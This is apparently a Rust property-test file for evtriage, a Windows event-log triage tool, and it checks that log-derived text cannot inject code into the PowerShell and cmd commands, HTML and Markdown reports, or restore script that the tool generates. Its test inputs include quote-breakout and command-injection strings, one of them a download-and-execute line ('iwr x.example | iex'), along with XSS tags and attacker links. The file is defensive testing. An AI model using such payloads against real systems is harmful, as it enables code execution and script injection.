//! Nothing a log says can run (issue 13): for any string in any log field that reaches a finding,
//! every PowerShell command evtriage prints is one command whose log-derived arguments are each
//! exactly one single-quoted literal holding the value, every cmd line holds only allow-listed
//! characters, no displayed line holds a raw control or format character, and the restore script
//! keeps its shape. Values are put straight into the KB sample's real finding, so thousands of
//! strings are tried in seconds; `tests/hostile.rs` sends the same attacks through real logs.

mod support;

use evtriage::diagnosis::command::CMD_SAFE;
use evtriage::diagnosis::finding::Finding;
use evtriage::diagnosis::remediation;
use evtriage::report::escape::is_unsafe_char;
use evtriage::report::{Format, Report, Shells, Style};
use evtriage::script;
use proptest::prelude::*;
use std::collections::HashSet;
use std::sync::OnceLock;
use support::pwsh::{Token, is_single_quote, literals, skeleton, tokenize};
use support::{diagnose_files, diagnoser, samples};

/// The KB sample's finding, with its second service known only by display name so that both
/// ways of naming a service are exercised.
fn base() -> &'static Finding {
    static F: OnceLock<Finding> = OnceLock::new();
    F.get_or_init(|| {
        let dir = samples().join("kb940006-rollup-failed");
        let mut f = diagnose_files(&[&dir.join("Application.evtx"), &dir.join("System.evtx")])
            .into_iter()
            .find(|f| f.signature == "exchange-rollup-file-in-use")
            .expect("the KB finding");
        f.services[1].name_is_key = false;
        let dn = f.services[1].display_name.clone().unwrap();
        f.services[1].name = dn;
        // What other findings carry, so that every step's commands have a shape to keep: the
        // apps a 404 names, and both likely causes.
        f.apps_to_close = vec!["Microsoft.WindowsTerminal_1.12.10982.0_x64__8wekyb3d8bbwe".into()];
        f.likely_causes = ["component_store_damaged", "deployment_service_crashed"]
            .into_iter()
            .map(|cause| evtriage::diagnosis::LikelyCause {
                cause: cause.into(),
                means: "a cause".into(),
                shown_by: vec!["a record".into()],
            })
            .collect();
        f
    })
}

/// The finding with `v` in every place a log's text reaches.
fn hostile(v: &str) -> Finding {
    let mut f = base().clone();
    f.computer = v.to_string();
    f.update.title = Some(v.to_string());
    f.update.product = Some(v.to_string());
    f.update.package = Some(format!("{v}.msp"));
    f.update.kb = Some(v.to_string());
    f.error.log_file = Some(v.to_string());
    f.error.installer_message = Some(v.to_string());
    f.error.hresult = Some(v.to_string());
    for l in &mut f.locked_files {
        l.path = Some(v.to_string());
        l.process = Some(v.to_string());
        l.image = Some(v.to_string());
    }
    for s in f.services.iter_mut().take(2) {
        s.name = v.to_string();
        s.display_name = Some(v.to_string());
        s.disabled_by = Some(v.to_string());
        s.original_start = v.to_string();
        s.restored_to = Some(v.to_string());
    }
    f.apps_to_close = vec![v.to_string(), format!("{v}_1.0.0.0_x64__8wekyb3d8bbwe")];
    f.likely_causes = ["component_store_damaged", "deployment_service_crashed"]
        .into_iter()
        .map(|cause| evtriage::diagnosis::LikelyCause {
            cause: cause.into(),
            means: v.to_string(),
            shown_by: vec![v.to_string()],
        })
        .collect();
    for e in &mut f.evidence {
        e.file = v.to_string();
        e.provider = v.to_string();
        for val in e.fields.values_mut() {
            *val = v.to_string();
        }
    }
    f
}

/// Per signature and step: the skeletons and literals of the commands rendered from the real
/// finding.
struct Shapes {
    skeletons: HashSet<Vec<Token>>,
    constants: HashSet<String>,
}

fn shapes() -> &'static Shapes {
    static S: OnceLock<Shapes> = OnceLock::new();
    S.get_or_init(|| {
        let mut skeletons = HashSet::new();
        let mut constants = HashSet::new();
        for sig in diagnoser().signatures() {
            for done in [false, true] {
                let (_, steps) = remediation::render(sig, base(), done);
                for c in steps.iter().flat_map(|s| &s.powershell) {
                    let t = tokenize(c).unwrap();
                    skeletons.insert(skeleton(&t));
                    constants.extend(literals(&t).into_iter().map(str::to_string));
                }
            }
        }
        Shapes {
            skeletons,
            constants,
        }
    })
}

fn check_powershell(cmd: &str, value: &str) -> Result<(), TestCaseError> {
    prop_assert!(
        !cmd.chars().any(is_unsafe_char),
        "raw control or format character in {cmd:?}"
    );
    let tokens = tokenize(cmd).map_err(TestCaseError::fail)?;
    prop_assert!(
        shapes().skeletons.contains(&skeleton(&tokens)),
        "a command changed shape: {cmd:?}"
    );
    for lit in literals(&tokens) {
        prop_assert!(
            lit == value
                || lit == format!("{value}.msp")
                // {package_name} is the file name of the package the log names.
                || format!("{value}.msp").rsplit(['\\', '/']).next() == Some(lit)
                || shapes().constants.contains(lit)
                // The service commands quote the key or display name the finding holds.
                || base().services.iter().any(|s| s.name == lit),
            "literal {lit:?} is neither the value nor the template's own in {cmd:?}"
        );
    }
    Ok(())
}

fn check_cmd(line: &str) -> Result<(), TestCaseError> {
    let constants_removed = line.replace("%USERPROFILE%", "").replace("%windir%", "");
    let template_chars = " \"=/";
    for c in constants_removed.chars() {
        prop_assert!(
            CMD_SAFE.contains(c) || template_chars.contains(c) || c == '|',
            "{c:?} in cmd line {line:?}"
        );
    }
    // The one pipe is the verify step's own constant line.
    prop_assert!(
        !line.contains('|') || line == "sc.exe query state= all | findstr /I \"MSExchange\"",
        "{line:?}"
    );
    prop_assert_eq!(
        line.matches('"').count() % 2,
        0,
        "unbalanced quotes in {}",
        line
    );
    Ok(())
}

fn attack() -> impl Strategy<Value = String> {
    const PARTS: &[&str] = &[
        "",
        "'",
        "\u{2018}",
        "\u{2019}",
        "\u{201a}",
        "\u{201b}",
        "\"",
        "\u{201c}",
        "$(calc)",
        "; calc",
        "\n",
        "\r",
        "\u{85}",
        "\u{2028}",
        "`",
        "*",
        "&",
        "|",
        "%PATH%",
        "^",
        "!",
        "#",
        "<#",
        "{",
        "}",
        "\u{202e}",
        "\u{200b}",
        "\u{61c}",
        "\u{1b}[31m",
        "\u{9b}",
        "MSExchangeIS",
        "C:\\Windows\\Temp\\",
        "\\\\attacker\\share\\",
        "x.msp",
        "KB940006",
        "0x80070643",
        "powershell",
        " ",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[click](https://attacker.example)",
        "![x](https://attacker.example/x.png)",
        "```",
        "</code></pre>",
        "&lt;",
        "| x |",
    ];
    (
        prop::sample::select(PARTS),
        any::<String>(),
        prop::sample::select(PARTS),
        prop::sample::select(PARTS),
    )
        .prop_map(|(a, b, c, d)| format!("{a}{b}{c}{d}"))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(384))]

    #[test]
    fn log_text_never_becomes_code(v in attack()) {
        let f = hostile(&v);
        for sig in diagnoser().signatures() {
            for done in [false, true] {
                let (summary, steps) = remediation::render(sig, &f, done);
                let _ = summary;
                for step in &steps {
                    for c in &step.powershell {
                        check_powershell(c, &v)?;
                    }
                    for c in &step.cmd {
                        check_cmd(c)?;
                    }
                    for w in &step.withheld {
                        prop_assert!(!w.chars().any(is_unsafe_char), "{w:?}");
                    }
                }
            }
        }
    }

    #[test]
    fn no_displayed_line_holds_a_raw_control_or_format_character(v in attack()) {
        let mut f = hostile(&v);
        let sig = diagnoser()
            .signatures()
            .iter()
            .find(|s| s.def.id == f.signature)
            .unwrap();
        let (summary, steps) = remediation::render(sig, &f, false);
        f.summary = summary;
        f.remediation = steps;
        let mut style = Style::plain();
        style.shells = Shells::Both;
        for format in [Format::Table, Format::Markdown, Format::Html] {
            let mut out = Vec::new();
            Report::new(vec![f.clone()], Vec::new())
                .write(format, &mut out, style)
                .unwrap();
            let text = String::from_utf8(out).unwrap();
            for (n, line) in text.lines().enumerate() {
                prop_assert!(
                    !line.chars().any(is_unsafe_char),
                    "{format:?} line {n} holds a raw control or format character: {line:?}"
                );
                prop_assert!(line.chars().count() < 4000, "{format:?} line {n} is {} characters", line.chars().count());
            }
            let lower = text.to_lowercase();
            match format {
                // What the page holds of a log is text: no tag, attribute or link of its own.
                Format::Html => {
                    // Escaped, an attack is harmless text ("&lt;img … onerror=…"): only a raw tag is one.
                    for raw in ["<script", "<img", "<a "] {
                        prop_assert!(!lower.contains(raw), "{raw} in the page");
                    }
                }
                // No link, image or HTML; no fence that a value closed early.
                // Inside a fenced block a command is shown as code, whatever it holds.
                Format::Markdown => {
                    let mut fenced = false;
                    for line in text.lines() {
                        if line.trim_start().starts_with("```") {
                            fenced = !fenced;
                            continue;
                        }
                        let l = line.to_lowercase();
                        for raw in ["<script", "<img", "](http"] {
                            prop_assert!(fenced || !l.contains(raw), "{raw} in the Markdown: {line}");
                        }
                    }
                    prop_assert!(!fenced, "a fence left open");
                }
                _ => {}
            }
        }
    }

    #[test]
    fn the_restore_script_keeps_its_shape(v in attack()) {
        let benign = script::write("EXMBX01.contoso.local", &[base()]).unwrap();
        let mut f = hostile(&v);
        // Start types are evtriage's own words once parsed; keep them, so that the services
        // named by the hostile value are in the script.
        for (s, b) in f.services.iter_mut().zip(&base().services) {
            s.original_start = b.original_start.clone();
        }
        let mut shapes: HashSet<Vec<Token>> = HashSet::new();
        let mut constants: HashSet<String> = HashSet::new();
        for line in benign.text.split("\r\n") {
            let t = tokenize(line).unwrap();
            constants.extend(literals(&t).into_iter().map(str::to_string));
            shapes.insert(skeleton(&t));
        }
        prop_assert_eq!(script::write(&v, &[&f]).is_ok(), script::is_computer_name(&v));
        match script::write("EXMBX01.contoso.local", &[&f]) {
            Err(why) => prop_assert!(why.contains("no service"), "{}", why),
            Ok(s) => {
                prop_assert!(!s.text.chars().any(|c| is_unsafe_char(c) && c != '\r' && c != '\n'));
                for line in s.text.split("\r\n") {
                    let t = tokenize(line).map_err(TestCaseError::fail)?;
                    if let [Token::Comment(c)] = t.as_slice() {
                        prop_assert!(c.is_ascii(), "{c:?}");
                        continue;
                    }
                    prop_assert!(shapes.contains(&skeleton(&t)), "script line changed shape: {line:?}");
                    for lit in literals(&t) {
                        prop_assert!(
                            lit == v || constants.contains(lit) || v.split('.').next() == Some(lit),
                            "{lit:?} in {line:?}"
                        );
                    }
                }
            }
        }
    }
}

#[test]
fn tokenizer_reads_what_evtriage_emits() {
    let t = tokenize("Get-Service -Name 'MSEx''IS' | Set-Service -StartupType Automatic").unwrap();
    assert_eq!(
        t,
        vec![
            Token::Word("Get-Service".into()),
            Token::Word("-Name".into()),
            Token::Single("MSEx'IS".into()),
            Token::Pipe,
            Token::Word("Set-Service".into()),
            Token::Word("-StartupType".into()),
            Token::Word("Automatic".into()),
        ]
    );
    // A typographic quote ends a single-quoted string: one left undoubled breaks out.
    let t = tokenize("Write-Host 'a\u{2019}; calc; \u{2018}'").unwrap();
    assert!(t.contains(&Token::Separator), "{t:?}");
    assert!(is_single_quote('\u{201b}'));
    assert!(tokenize("x 'open").is_err());
    assert_eq!(
        tokenize("a # b\nc").unwrap(),
        vec![
            Token::Word("a".into()),
            Token::Comment(" b".into()),
            Token::Separator,
            Token::Word("c".into())
        ]
    );
}

/// The properties above would hold vacuously if hostile values removed every command: a real
/// finding prints every step's commands, and a plain value survives as itself.
#[test]
fn real_values_still_make_commands() {
    let mut f = hostile("powershell");
    for (s, b) in f.services.iter_mut().zip(&base().services) {
        s.original_start = b.original_start.clone();
    }
    let sig = diagnoser()
        .signatures()
        .iter()
        .find(|s| s.def.id == f.signature)
        .unwrap();
    let (_, steps) = remediation::render(sig, base(), false);
    for id in [
        "free-locked-files",
        "restore-start-types",
        "start-services",
        "redeploy",
    ] {
        let step = steps.iter().find(|s| s.id == id).unwrap();
        assert!(!step.powershell.is_empty() && !step.cmd.is_empty(), "{id}");
        // Only the service known by display name has no cmd line.
        assert!(
            step.withheld
                .iter()
                .all(|w| w.contains("is a display name")),
            "{id}: {:?}",
            step.withheld
        );
    }
    let (_, steps) = remediation::render(sig, &f, false);
    let free = steps.iter().find(|s| s.id == "free-locked-files").unwrap();
    assert!(
        free.powershell
            .iter()
            .any(|c| c.contains("-eq 'powershell' } | Stop-Process -Confirm"))
    );
    // The display-only service is looked up by its display name, quoted; cmd cannot name it.
    let restore = steps
        .iter()
        .find(|s| s.id == "restore-start-types")
        .unwrap();
    assert!(
        restore.powershell.iter().any(
            |c| c.starts_with("Get-Service | Where-Object { $_.DisplayName -eq 'powershell' }")
        ),
        "{:?}",
        restore.powershell
    );
    assert!(
        restore
            .withheld
            .iter()
            .any(|w| w.contains("sc.exe") && w.contains("display name")),
        "{:?}",
        restore.withheld
    );
}

/// The same commands read by an independent PowerShell parser, tree-sitter-powershell (PyPI;
/// `.ci/run` installs it): every command parses without error as one pipeline, and its
/// single-quoted literals are exactly what the tokenizer above found. The grammar does not take
/// U+2018–U+201B as quotes (PowerShell does), so this check leaves those to the tokenizer.
#[test]
#[ignore = "needs tree-sitter-powershell from PyPI (.ci/run installs it)"]
fn an_independent_parser_reads_each_command_as_one_pipeline() {
    support::require(
        "python3",
        &["-c", "import tree_sitter, tree_sitter_powershell"],
    );
    let ascii_attacks = [
        "MSExchangeIS",
        "x' ; calc ; '",
        "$(iwr x.example | iex)",
        "a`nb",
        "C:\\Temp\\MSI$(calc).LOG",
        "powershell\" & calc & \"",
        "*",
        "# comment",
        "'; Stop-Computer; #",
    ];
    let mut commands: Vec<String> = Vec::new();
    for v in ascii_attacks {
        let mut f = hostile(v);
        for (s, b) in f.services.iter_mut().zip(&base().services) {
            s.original_start = b.original_start.clone();
        }
        for sig in diagnoser().signatures() {
            for done in [false, true] {
                let (_, steps) = remediation::render(sig, &f, done);
                commands.extend(steps.into_iter().flat_map(|s| s.powershell));
            }
        }
    }
    commands.sort();
    commands.dedup();
    let script = script::write("EXMBX01.contoso.local", &[base()]).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("commands.json");
    std::fs::write(
        &input,
        serde_json::to_string(&serde_json::json!({"commands": commands, "script": script.text}))
            .unwrap(),
    )
    .unwrap();
    const READ: &str = r#"
import json, sys
import tree_sitter, tree_sitter_powershell
parser = tree_sitter.Parser(tree_sitter.Language(tree_sitter_powershell.language()))
doc = json.load(open(sys.argv[1], encoding="utf-8"))
def walk(n):
    yield n
    for c in n.children:
        yield from walk(c)
def read(src):
    tree = parser.parse(src.encode("utf-8"))
    root = tree.root_node
    nodes = list(walk(root))
    lists = [n for n in root.children if n.type == "statement_list"]
    top = [c for l in lists for c in l.children if c.is_named]
    literals = [n.text.decode("utf-8")[1:-1].replace("''", "'") for n in nodes if n.type == "verbatim_string_characters"]
    return {"error": root.has_error, "statements": len(top), "literals": literals}
print(json.dumps({
    "commands": [dict(read(c), text=c) for c in doc["commands"]],
    "script": read(doc["script"]),
}))
"#;
    let out = std::process::Command::new("python3")
        .args(["-c", READ])
        .arg(&input)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let parsed: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let results = parsed["commands"].as_array().unwrap();
    assert!(results.len() > 40, "{} commands", results.len());
    for r in results {
        let text = r["text"].as_str().unwrap();
        assert_eq!(r["error"], false, "tree-sitter cannot parse {text:?}");
        assert_eq!(r["statements"], 1, "not one statement: {text:?}");
        let tokens = tokenize(text).unwrap();
        let ours: Vec<&str> = literals(&tokens);
        let theirs: Vec<&str> = r["literals"]
            .as_array()
            .unwrap()
            .iter()
            .map(|l| l.as_str().unwrap())
            .collect();
        assert_eq!(ours, theirs, "the parsers disagree on {text:?}");
    }
    assert_eq!(
        parsed["script"]["error"], false,
        "the script does not parse"
    );
}
